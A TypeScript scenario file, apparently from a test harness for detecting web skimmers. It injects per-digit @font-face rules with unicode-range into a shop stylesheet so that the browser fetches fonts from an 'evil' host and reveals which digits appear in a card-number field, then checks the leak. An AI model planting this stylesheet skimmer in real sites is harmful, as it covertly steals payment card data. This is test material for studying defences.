import { skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';

export default skimmer({
  id: 'css-font-ranges',
  why: 'A font per digit, loaded by the browser when that digit is shown in a card field: no script at all; tells which digits occur (published as a CSS side channel).',
  covers: ['hard: unusual channel', 'channel: covert', 'sending: stylesheet'],
  base: 'direct',
  install: (site) =>
    site.alter('shop/assets/shop.css', (css) => {
      const faces = Array.from(
        { length: 10 },
        (_, d) =>
          `@font-face{font-family:wk;src:url(${site.origins.evil}/f/${d}.woff2);unicode-range:U+3${d}}`,
      );
      return `${css}\n${faces.join('\n')}\n#cc-number{font-family:wk,sans-serif}`;
    }),
  proof: (arrived, cards) => {
    const seen = new Set(
      at(arrived, 'evil').flatMap(({ url }) => /^\/f\/(\d)\./.exec(url.pathname)?.[1] ?? []),
    );
    return cards.some((card) => seen.size > 2 && Array.from(card.number).every((digit) => seen.has(digit)));
  },
});
